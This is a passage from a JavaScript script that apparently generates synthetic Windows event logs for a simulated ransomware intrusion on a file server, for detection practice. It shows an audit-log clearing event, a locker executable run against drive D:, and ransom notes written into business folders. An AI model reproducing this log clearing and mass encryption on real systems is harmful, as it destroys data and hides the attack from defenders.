    run(at(time), 'FS01', SYSTEM, SYS32 + name, line, {
      parent: shell,
      original,
      description: 'Windows tool',
    });
  }
  windows(
    at('35:03'),
    'FS01',
    'Security',
    1102,
    {
      SubjectUserSid: 'S-1-5-18',
      SubjectUserName: 'FS01$',
      SubjectDomainName: 'CORP',
      SubjectLogonId: '0x3e7',
    },
    EVENTLOG,
  );
  const locker = run(
    at('37:00'),
    'FS01',
    SYSTEM,
    'C:\\ProgramData\\e.exe',
    'C:\\ProgramData\\e.exe -p D:\\',
    { parent: shell },
  );
  for (const [index, folder] of ['Finance', 'HR', 'Projects'].entries()) {
    wrote(at(`37:1${index}`), 'FS01', locker, `D:\\${folder}\\HOW_TO_DECRYPT_FILES.txt`);
  }
}

everyday();
intrusion();
records.sort((a, b) => a.ms - b.ms || a.order - b.order);
mkdirSync('examples', { recursive: true });
writeFileSync(TARGET, records.map(({ record }) => `${JSON.stringify(record)}\n`).join(''));
console.log(`${TARGET}: ${records.length} events`);
